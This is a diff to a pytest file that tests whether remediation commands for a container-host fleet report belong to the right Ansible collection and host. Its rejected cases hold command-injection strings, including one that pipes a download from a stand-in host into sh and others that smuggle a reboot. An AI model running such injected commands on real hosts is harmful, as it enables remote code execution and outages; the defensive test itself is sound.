@@ -143,4 +143,28 @@ def test_a_made_up_fleet_is_what_the_module_would_tell():
     report = build(results, groups=groups)
     assert report["totals"]["verdicts"]["failed"] == sum("failed" in result for result in results.values())
     kept = {key for host in report["hosts"] for entry in host["consumers"] for key in entry}
-    assert kept == set(consumer("docker", "d", "in_sync"))
+    assert kept == {*consumer("docker", "d", "in_sync"), "mend_is_ours"}
+
+
+SITE = "ansible-playbook fleetops.container_hosts.site --limit"
+
+
+@pytest.mark.parametrize(
+    ("mend", "ours"),
+    [
+        (f"{SITE} host-1", True),
+        (f"{SITE} host-1 --extra-vars moby_proxy_adopt=true", True),
+        (f"""{SITE} host-1 --extra-vars '{{"moby_client_users": ["root"]}}'""", True),
+        ("ansible-playbook fleetops.container_hosts.remove --limit host-1", True),
+        (f"{SITE} host-2", False),
+        (f"{SITE} host-1; curl http://192.0.2.66/x | sh", False),
+        (f"{SITE} host-1 --extra-vars ansible_connection=local", False),
+        (f"{SITE} $(reboot)", False),
+        (f"{SITE} host-1\nreboot", False),
+        (f"Take /etc/z.conf:2 away; then {SITE} host-1", False),
+        ("curl http://192.0.2.66/x | sh", False),
+    ],
+)
+def test_only_commands_of_the_collection_for_this_host_are_ours(mend, ours):
+    [host] = build({"host-1": {"consumers": [consumer("docker", "d", "drifted", mend=mend)]}})["hosts"]
+    assert host["consumers"][0]["mend_is_ours"] is ours
